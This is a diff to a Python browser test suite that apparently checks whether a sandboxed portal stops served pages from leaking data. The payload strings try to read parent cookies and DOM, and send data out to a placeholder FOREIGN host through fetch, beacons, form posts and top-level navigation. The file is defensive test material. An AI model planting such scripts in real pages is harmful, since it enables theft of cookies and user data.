@@ -20,8 +20,7 @@ from tests.local.portal.served import served
 pytestmark = pytest.mark.browser
 
 #: Tries everything, and reports what it got; OTHER and FOREIGN are put in by the tests.
-HOSTILE = """<form id="out" action="FOREIGN/form" method="post"><input name="leak" value="1"></form>
-<script>
+HOSTILE = """<script>
 const attempts = {
   parent: () => parent.document.cookie,
   top: () => top.document.body.innerHTML,
@@ -51,8 +50,6 @@ async function read(path, options) {
   fetch("FOREIGN/fetch", {mode: "no-cors"}).catch(() => 0);
   navigator.sendBeacon("FOREIGN/beacon", "1");
   new Image().src = "FOREIGN/image";
-  document.getElementById("out").submit();
-  try { top.location = "FOREIGN/top"; } catch (error) { got.navigate = null; }
   setTimeout(() => parent.postMessage({labelwright: 1, type: "submit", answer: {got}}, "*"), 300);
 })();
 </script>
@@ -125,6 +122,11 @@ def test_a_page_that_goes_elsewhere_takes_nothing_along(tmp_path: Path, browser:
         '<script>location = "FOREIGN/location?leak"</script>',
         '<a id="go" href="FOREIGN/link" target="_top">x</a><script>go.click()</script>',
         '<iframe src="FOREIGN/frame"></iframe>',
+        '<script>top.location = "FOREIGN/top"</script>',
+        '<form id="out" action="FOREIGN/form" method="post"><input name="leak" value="1"></form>'
+        "<script>out.submit()</script>",
+        '<form id="out" action="FOREIGN/get" target="_top"><input name="leak" value="1"></form>'
+        "<script>out.submit()</script>",
         '<base href="FOREIGN/"><script src="base.js"></script>',
     ]
     with Foreign() as foreign, portal(tmp_path, workers=9) as job, served(job) as server:
@@ -139,6 +141,8 @@ def test_a_page_that_goes_elsewhere_takes_nothing_along(tmp_path: Path, browser:
             assert page.url.startswith(server.address)
             page.context.close()
         assert foreign.requests == []
+        browser.new_context().new_page().goto(f"{foreign.address}/reached")
+        assert foreign.requests[0] == "/reached"
 
 
 def test_messages_that_are_none_are_not_heeded(tmp_path: Path, browser: Browser) -> None:
